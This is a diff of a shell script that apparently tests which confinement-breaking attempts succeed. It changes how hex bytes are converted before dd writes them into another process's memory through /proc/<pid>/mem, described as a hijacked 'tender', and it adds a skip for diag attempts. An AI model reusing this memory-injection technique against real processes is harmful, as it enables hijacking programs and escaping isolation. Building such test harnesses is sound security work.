@@ -62,8 +62,12 @@ word() {
     '{key}') cat key ;;
     # What is in its memory is a hijacked tender's own to write.
     bytes:*)
-      printf "$(echo "${1#bytes:}" | sed 's/../\\x&/g')" |
-        dd of="/proc/$tender/mem" bs=1 seek="$memory" conv=notrunc 2>/dev/null
+      octets= rest=${1#bytes:}
+      while [ -n "$rest" ]; do
+        octets="$octets\\$(printf %03o "0x${rest%"${rest#??}"}")"
+        rest=${rest#??}
+      done
+      printf "$octets" | dd of="/proc/$tender/mem" bs=1 seek="$memory" conv=notrunc 2>/dev/null
       echo "$memory"
       ;;
     *) echo "$1" ;;
@@ -112,6 +116,9 @@ one_attempt() {
   case $name in
     key-* | control-key-*)
       if [ -z "$holder" ]; then untried "$category" "$name" "$wanted" 'no keys here'; end; return; fi ;;
+  esac
+  case $name in
+    *-diag*) if ! grep -q diag channels; then untried "$category" "$name" "$wanted" 'no unix_diag here'; end; return; fi ;;
   esac
   if [ -n "$needed" ] && [ "$(step $needed)" != applied ]; then
     untried "$category" "$name" "$wanted" "no $needed here"
